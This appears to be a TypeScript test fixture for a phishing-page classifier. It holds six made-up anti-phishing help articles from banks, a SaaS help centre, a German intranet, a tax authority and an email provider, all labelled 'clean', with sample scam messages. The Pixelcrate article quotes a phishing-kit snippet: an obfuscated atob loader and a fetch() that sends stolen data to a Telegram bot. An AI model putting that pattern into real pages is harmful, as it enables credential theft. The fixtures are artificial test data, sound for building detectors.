import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';

export const entries: Entry[] = [
{
  id: 'a-article-bank-security-lures',
  label: 'clean',
  kind: 'article',
  url: 'https://www.harborstatebank.com/security-center/recognize-scams',
  body: `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>How to Recognize Scam Texts and Emails | Security Center | Harbor State Bank</title>
<meta name="description" content="Examples of real scam messages sent in Harbor State Bank's name, and how to protect your accounts.">
<link rel="stylesheet" href="/static/css/site.min.css">
<style>
body{margin:0;font-family:Georgia,"Times New Roman",serif;color:#1d2733;line-height:1.6}
.top{background:#0d2d4f;color:#fff;padding:12px 30px;display:flex;justify-content:space-between;font-family:Arial,sans-serif;font-size:14px}
.top a{color:#fff;margin-left:16px}
.login-btn{background:#f2b705;color:#0d2d4f!important;padding:6px 14px;border-radius:4px;font-weight:bold;text-decoration:none}
article{max-width:760px;margin:30px auto;padding:0 20px}
h1{font-size:34px;line-height:1.2}
blockquote{background:#f4f6f9;border-left:4px solid #c0392b;margin:16px 0;padding:12px 16px;font-family:Arial,sans-serif;font-size:15px}
.tag{display:inline-block;background:#c0392b;color:#fff;font-family:Arial;font-size:11px;padding:2px 6px;border-radius:3px;margin-bottom:6px}
figure{margin:20px 0;border:1px solid #ddd;padding:12px;font-family:Arial;font-size:13px;color:#555}
.box{background:#eaf4ea;border-radius:6px;padding:16px;font-family:Arial,sans-serif;font-size:15px}
footer{background:#0d2d4f;color:#c8d3df;font-family:Arial,sans-serif;font-size:12px;padding:24px 30px;margin-top:40px}
</style>
</head>
<body>
<div class="top"><span><b>HARBOR STATE BANK</b> · Member FDIC</span><span><a href="/personal">Personal</a><a href="/business">Business</a><a href="/security-center">Security Center</a><a class="login-btn" href="https://online.harborstatebank.com/login">Log in</a></span></div>
<article>
<p style="font-family:Arial;font-size:13px;color:#667">Security Center › Fraud &amp; Scams · Updated March 2025</p>
<h1>How to recognize scam texts and emails that use our name</h1>
<p>Criminals send messages that look like they come from Harbor State Bank. Their goal is to get you to type your username, password, or one-time passcode into a fake website that looks like our login page. Below are real examples our customers reported in the last few months.</p>
<div class="tag">SCAM</div>
<blockquote>Harbor State Bank: Your account has been suspended due to unusual activity. Verify your identity within 24 hours to avoid permanent closure: hsb-verify-login[.]com</blockquote>
<div class="tag">SCAM</div>
<blockquote>HSB ALERT: Did you attempt a Zelle payment of $1,250.00 to MARCUS R? Reply YES or NO. (If you reply NO, a "fraud specialist" calls you and asks for the code we text you.)</blockquote>
<div class="tag">SCAM</div>
<blockquote>Dear Customer, we were unable to verify your debit card. Please update your card number, expiration date, CVV and PIN at the secure link below to restore access.</blockquote>
<figure><b>Screenshot description:</b> a fake "Harbor State Bank Online Banking" page with our logo, a Username and Password box, and a second page asking for your card number, Social Security number and ATM PIN. The address bar shows a long domain that is not harborstatebank.com.</figure>
<h2>What we will never do</h2>
<ul><li>Ask for your password, PIN, or full card number by text, email or phone.</li><li>Ask you to read back a one-time passcode to someone who called you.</li><li>Ask you to move money to a "safe account".</li><li>Send you a link to log in that isn't on <b>harborstatebank.com</b>.</li></ul>
<div class="box"><b>If you clicked a link or shared information:</b> call us right away at 1-800-555-0134 (24/7). We can lock your card, reset your credentials and review recent transactions. Then forward the message to <b>phishing@harborstatebank.com</b> and report texts to 7726 (SPAM).</div>
<h2>Check the address before you log in</h2>
<p>Our online banking login page is always at <b>https://online.harborstatebank.com</b>. Bookmark it or use our mobile app instead of following links in messages.</p>
</article>
<footer>© 2025 Harbor State Bank. Equal Housing Lender. NMLS #448120 · <a href="/privacy" style="color:#c8d3df">Privacy</a> · <a href="/accessibility" style="color:#c8d3df">Accessibility</a></footer>
</body>
</html>`,
},
{
  id: 'a-article-saas-help-fake-login',
  label: 'clean',
  kind: 'article',
  url: 'https://help.pixelcrate.com/hc/en-us/articles/360041188230-Spotting-fake-Pixelcrate-login-pages',
  body: `<!DOCTYPE html>
<html dir="ltr" lang="en-US">
<head>
<meta charset="utf-8">
<title>Spotting fake Pixelcrate login pages – Pixelcrate Help Center</title>
<meta name="viewport" content="width=device-width, initial-scale=1.0">
<link rel="canonical" href="https://help.pixelcrate.com/hc/en-us/articles/360041188230-Spotting-fake-Pixelcrate-login-pages">
<link rel="stylesheet" href="//theme.zdassets.com/theme_assets/9011223/9a4b1c7e0d.css">
<style>
body{margin:0;font-family:-apple-system,BlinkMacSystemFont,"Segoe UI",Helvetica,Arial,sans-serif;color:#2f3941;line-height:1.6}
.header{display:flex;justify-content:space-between;align-items:center;padding:14px 30px;border-bottom:1px solid #eee}
.header nav a{margin-left:18px;color:#1f73b7;text-decoration:none;font-size:14px}
.search{background:#f3f0ff;padding:30px;text-align:center}.search input{width:60%;height:44px;border:1px solid #ccc;border-radius:22px;padding:0 18px}
.article{max-width:780px;margin:30px auto;padding:0 20px}
.breadcrumbs{font-size:13px;color:#68737d}
pre{background:#f8f9f9;border:1px solid #e9ebed;padding:12px;overflow:auto;font-size:13px}
.mock{border:2px dashed #c2c8cc;border-radius:8px;padding:16px;background:#fafafa;font-size:14px}
.mock .fld{background:#fff;border:1px solid #ccc;border-radius:4px;padding:8px;color:#999;margin:6px 0}
.vote{border-top:1px solid #eee;margin-top:40px;padding-top:20px;font-size:14px}
</style>
</head>
<body>
<header class="header"><a href="/hc/en-us"><img src="//theme.zdassets.com/theme_assets/9011223/pixelcrate-logo.svg" alt="Pixelcrate Help Center home page" height="30"></a><nav><a href="https://pixelcrate.com">Pixelcrate.com</a><a href="/hc/en-us/requests/new">Submit a request</a><a href="/hc/en-us/signin">Sign in</a></nav></header>
<div class="search"><form action="/hc/en-us/search"><input type="search" name="query" placeholder="Search"></form></div>
<div class="article">
<div class="breadcrumbs">Pixelcrate Help Center › Account &amp; Security › Staying safe</div>
<h1>Spotting fake Pixelcrate login pages</h1>
<p>Attackers sometimes copy our login page to steal passwords. The copies often look identical: the same logo, colors and "Log in to Pixelcrate" heading. Here's what to check.</p>
<h2>1. Look at the domain</h2>
<p>We only ever ask you to log in at <b>pixelcrate.com/login</b> or through "Sign in with Google / Apple / Microsoft" buttons that open the provider's own page (accounts.google.com, appleid.apple.com, login.microsoftonline.com). A page at <code>pixelcrate-login.support</code>, <code>pixelcrate.com.account-verify.io</code> or <code>xn--pxelcrate-…</code> is not us.</p>
<h2>2. What a fake page looks like</h2>
<div class="mock"><b>Example of a fake page (description):</b><br>Headline: "Your Pixelcrate storage is full – sign in to keep your files"<div class="fld">Email address</div><div class="fld">Password</div><div class="fld">Card number (to upgrade free)</div>The address bar showed <i>pixelcrate.storage-upgrade-free.com</i>.</div>
<p>Some fake pages are built with scripts that hide their content from security scanners. If you ever inspect the source, you might see things like:</p>
<pre>document.write(atob("PGZvcm0gYWN0aW9uPSJuZXh0LnBocCI..."))
fetch("https://api.telegram.org/bot&lt;token&gt;/sendMessage", ...)</pre>
<p>Legitimate Pixelcrate pages never send your password anywhere except pixelcrate.com.</p>
<h2>3. Turn on two-step verification</h2>
<p>Even if someone gets your password, two-step verification stops them. Go to <a href="https://pixelcrate.com/settings/security">Settings › Security</a> and choose an authenticator app or a passkey.</p>
<h2>Already entered your password on a fake page?</h2>
<ol><li><a href="https://pixelcrate.com/password/reset">Reset your password</a> immediately.</li><li>Sign out of all sessions in Settings › Security.</li><li>Forward the email that led you there to <b>abuse@pixelcrate.com</b>.</li></ol>
<div class="vote">Was this article helpful? <button>Yes</button> <button>No</button> · 1,204 out of 1,311 found this helpful</div>
</div>
</body>
</html>`,
},
{
  id: 'a-article-it-password-expiry-notice',
  label: 'clean',
  kind: 'article',
  url: 'https://intranet.brenner-maschinenbau.de/it/passwort-ablauf',
  body: `<!DOCTYPE html>
<html lang="de">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Ihr Passwort läuft bald ab – IT-Service | Brenner Intranet</title>
<link rel="stylesheet" href="/static/intranet.css">
<style>
body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f3f4f6;color:#1f2937}
.top{background:#1e3a5f;color:#fff;padding:10px 24px;display:flex;justify-content:space-between;font-size:14px}
.top a{color:#cbd5e1;margin-left:14px;text-decoration:none}
.c{max-width:760px;margin:24px auto;background:#fff;padding:28px;border-radius:6px;line-height:1.6}
.cta{display:inline-block;background:#1e3a5f;color:#fff;padding:10px 20px;border-radius:4px;text-decoration:none}
.hint{background:#fef9c3;padding:12px;border-radius:4px;font-size:14px}
</style>
</head>
<body>
<div class="top"><b>Brenner Maschinenbau · Intranet</b><span><a href="/news">News</a><a href="/personal">Personal</a><a href="/it">IT-Service</a><a href="/telefonbuch">Telefonbuch</a></span></div>
<div class="c">
<h1>Ihr Windows-Passwort läuft in 7 Tagen ab</h1>
<p>Aus Sicherheitsgründen müssen Passwörter für das Firmennetz alle 180 Tage geändert werden. Sie sehen diese Seite, weil Ihr Passwort in Kürze abläuft.</p>
<p><b>So ändern Sie Ihr Passwort:</b></p>
<ol>
<li>Am Firmen-PC: <kbd>Strg</kbd> + <kbd>Alt</kbd> + <kbd>Entf</kbd> drücken und „Kennwort ändern" wählen.</li>
<li>Von unterwegs (VPN nicht erforderlich): im Self-Service-Portal.</li>
</ol>
<p><a class="cta" href="https://passwort.brenner-maschinenbau.de/">Zum Passwort-Self-Service</a></p>
<p>Das neue Passwort muss mindestens 14 Zeichen lang sein. Wir empfehlen eine Passphrase aus mehreren Wörtern, z. B. „Kaffeetasse-Fräsmaschine-Sonntag".</p>
<div class="hint"><b>Achtung vor Phishing:</b> Der IT-Service fordert Sie niemals per E-Mail auf, Ihr aktuelles Passwort auf einer Webseite „zu bestätigen" oder „beizubehalten". Passwortänderungen erfolgen ausschließlich über passwort.brenner-maschinenbau.de oder am Firmen-PC. Verdächtige E-Mails bitte mit dem Button „Phishing melden" in Outlook weiterleiten.</div>
<p style="font-size:13px;color:#6b7280">Fragen? IT-Hotline Durchwahl 4444 · it-service@brenner-maschinenbau.de</p>
</div>
</body>
</html>`,
},
{
  id: 'a-article-finanzamt-warnung-de',
  label: 'clean',
  kind: 'article',
  url: 'https://www.finanzverwaltung-nordmark.de/aktuelles/warnung-vor-gefaelschten-steuererstattungs-mails',
  body: `<!DOCTYPE html>
<html lang="de">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Warnung vor gefälschten E-Mails zur Steuererstattung – Finanzverwaltung Nordmark</title>
<style>
body{margin:0;font-family:"BundesSans",Arial,sans-serif;color:#111;line-height:1.6}
.kopf{border-bottom:4px solid #004b87;padding:14px 28px;display:flex;align-items:center;gap:14px}
.kopf b{font-size:18px}
.bc{font-size:13px;color:#555;padding:10px 28px}
main{max-width:760px;margin:0 auto;padding:10px 20px 40px}
.mail{border:1px solid #bbb;background:#fafafa;padding:14px;font-family:Arial;font-size:14px}
.mail .h{font-size:12px;color:#666;border-bottom:1px solid #ddd;margin-bottom:8px;padding-bottom:6px}
.info{background:#e8f0f8;padding:14px}
</style>
</head>
<body>
<div class="kopf"><img src="/img/wappen.svg" alt="" height="48"><b>Finanzverwaltung<br>Land Nordmark</b></div>
<div class="bc">Startseite › Aktuelles › Pressemitteilungen</div>
<main>
<p style="color:#555">Pressemitteilung vom 04.03.2025</p>
<h1>Warnung vor gefälschten E-Mails zur „Steuererstattung"</h1>
<p>Derzeit versenden Betrüger E-Mails, die angeblich vom Finanzamt oder vom Bundeszentralamt für Steuern stammen. Darin wird eine Steuererstattung in Aussicht gestellt. Über einen Link sollen Empfängerinnen und Empfänger ein Formular ausfüllen und dabei Kreditkartendaten, Online-Banking-Zugangsdaten oder die Steuer-ID angeben.</p>
<div class="mail"><div class="h">Von: „Finanzamt Online" &lt;service@elster-erstattung[.]info&gt; · Betreff: Ihre Steuererstattung 2024 – Handlung erforderlich</div>
Sehr geehrte/r Steuerzahler/in,<br>nach der letzten jährlichen Berechnung Ihrer steuerlichen Tätigkeit haben wir festgestellt, dass Sie Anspruch auf eine Steuererstattung von 386,20 € haben. Bitte füllen Sie das Formular aus und geben Sie Ihre Kartendaten an, damit wir die Erstattung bearbeiten können.<br>[Erstattung beantragen]</div>
<p>Diese E-Mails stammen nicht von der Finanzverwaltung. <b>Finanzämter fordern niemals per E-Mail zur Angabe von Kreditkarten- oder Bankzugangsdaten auf.</b> Erstattungen werden ausschließlich auf das im Steuerbescheid bzw. in ELSTER hinterlegte Konto überwiesen.</p>
<div class="info"><b>Was Sie tun sollten:</b> Klicken Sie nicht auf Links, öffnen Sie keine Anhänge und löschen Sie die Nachricht. Wenn Sie bereits Daten eingegeben haben, informieren Sie umgehend Ihre Bank und erstatten Sie Anzeige bei der Polizei.</div>
</main>
</body>
</html>`,
},
{
  id: 'a-article-es-banco-consejos',
  label: 'clean',
  kind: 'article',
  url: 'https://www.cajarural-vallealto.es/seguridad/consejos-banca-online',
  body: `<!DOCTYPE html>
<html lang="es">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Consejos de seguridad para la banca online | Caja Rural Valle Alto</title>
<style>
body{margin:0;font-family:"Roboto",Arial,sans-serif;color:#222;line-height:1.6}
header{background:#00703c;color:#fff;padding:14px 28px;display:flex;justify-content:space-between;align-items:center}
header a{color:#fff;font-size:14px;margin-left:14px}
.acc{background:#fff;color:#00703c!important;padding:6px 14px;border-radius:16px;text-decoration:none;font-weight:bold}
main{max-width:780px;margin:24px auto;padding:0 20px}
.card{border:1px solid #dde5df;border-radius:8px;padding:16px;margin:14px 0}
.card h3{margin-top:0;color:#00703c}
.ej{background:#fff5f5;border-left:4px solid #c62828;padding:10px 14px;font-size:14px}
#cookie{position:fixed;bottom:0;left:0;right:0;background:#222;color:#eee;padding:12px 20px;font-size:13px;display:flex;justify-content:space-between;align-items:center}
#cookie button{background:#00703c;color:#fff;border:0;padding:6px 14px;margin-left:8px}
</style>
</head>
<body>
<header><b>Caja Rural Valle Alto</b><nav><a href="/particulares">Particulares</a><a href="/empresas">Empresas</a><a href="/seguridad">Seguridad</a><a class="acc" href="https://bancaonline.cajarural-vallealto.es/acceso">Acceso clientes</a></nav></header>
<main>
<h1>Consejos de seguridad para la banca online</h1>
<p>Los ciberdelincuentes utilizan correos electrónicos, SMS y llamadas que imitan a nuestra entidad para obtener sus claves. Conocer sus técnicas es la mejor forma de protegerse.</p>
<div class="card"><h3>Phishing por correo electrónico</h3><p>Recibe un correo con nuestro logotipo que le pide «verificar su cuenta» o «actualizar sus datos» mediante un enlace. Ejemplo real recibido por clientes:</p><div class="ej">«Estimado cliente: hemos bloqueado temporalmente su banca online por motivos de seguridad. Identifíquese en el siguiente enlace para desbloquearla.»</div></div>
<div class="card"><h3>Smishing (SMS)</h3><p>Un SMS que aparece en el mismo hilo que nuestros mensajes reales le alerta de un cargo no reconocido y le pide entrar en un enlace. <b>Nunca enviamos enlaces por SMS para acceder a la banca online.</b></p></div>
<div class="card"><h3>Vishing (llamadas)</h3><p>Alguien se hace pasar por el departamento de seguridad y le pide el código que le acaba de llegar por SMS. <b>Ningún empleado le pedirá nunca sus claves ni códigos de firma.</b></p></div>
<p>Acceda siempre escribiendo <b>bancaonline.cajarural-vallealto.es</b> en el navegador o desde nuestra app oficial. Si cree que ha sido víctima de fraude, llame al 900 555 210 (24 h).</p>
</main>
<div id="cookie"><span>Utilizamos cookies propias y de terceros con fines analíticos. <a href="/cookies" style="color:#9ee0b8">Más información</a></span><span><button onclick="this.closest('#cookie').remove()">Rechazar</button><button onclick="this.closest('#cookie').remove()">Aceptar</button></span></div>
</body>
</html>`,
},
{
  id: 'a-article-account-recovery-help',
  label: 'clean',
  kind: 'article',
  url: 'https://support.quillmail.com/articles/recover-your-account',
  body: `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Recover your Quillmail account | Quillmail Support</title>
<style>
body{margin:0;font-family:system-ui,-apple-system,"Segoe UI",Roboto,sans-serif;color:#1c1e21;line-height:1.65;background:#fbfbfd}
header{background:#fff;border-bottom:1px solid #e4e6eb;padding:14px 30px;display:flex;justify-content:space-between}
header a{color:#3a57e8;text-decoration:none;font-size:14px;margin-left:16px}
.w{max-width:780px;margin:30px auto;padding:0 20px}
.steps li{margin-bottom:10px}
.callout{background:#eef2ff;border-radius:8px;padding:14px 18px}
details{background:#fff;border:1px solid #e4e6eb;border-radius:8px;padding:12px 16px;margin:10px 0}
summary{font-weight:600;cursor:pointer}
</style>
</head>
<body>
<header><b>Quillmail Support</b><span><a href="https://quillmail.com">Quillmail</a><a href="https://mail.quillmail.com/login">Sign in</a><a href="/contact">Contact us</a></span></header>
<div class="w">
<h1>Recover your Quillmail account</h1>
<p>If you forgot your password, lost your phone, or think someone else is using your account, use the official recovery flow. It only takes a few minutes if you still have access to your recovery email or phone.</p>
<ol class="steps">
<li>Go to <b>mail.quillmail.com/recover</b> (type it yourself — don't use links from emails).</li>
<li>Enter your Quillmail address.</li>
<li>We'll send a 6-digit code to your recovery phone or email. Enter it on the Quillmail page.</li>
<li>Choose a new password. You'll be signed out everywhere else.</li>
</ol>
<div class="callout"><b>We will never contact you first to "recover" your account.</b> Messages saying "Your mailbox will be deleted", "Mailbox quota exceeded — re-validate now" or "Confirm your password to keep it" are scams. Quillmail does not delete mailboxes for being full, and storage upgrades are only offered in Settings › Storage.</div>
<h2>Common questions</h2>
<details><summary>I don't have my recovery phone anymore</summary><p>Use a backup code (you saved ten when you turned on 2-step verification), or submit an identity review from the recovery page. Reviews take 3–5 days.</p></details>
<details><summary>Someone changed my password</summary><p>Start recovery right away. If the attacker also changed your recovery options, we keep the previous ones for 7 days so you can still prove it's you.</p></details>
<details><summary>Someone is asking me for a verification code</summary><p>Never share a code, even with someone claiming to be Quillmail support. The code lets them take over your account.</p></details>
</div>
</body>
</html>`,
},
];
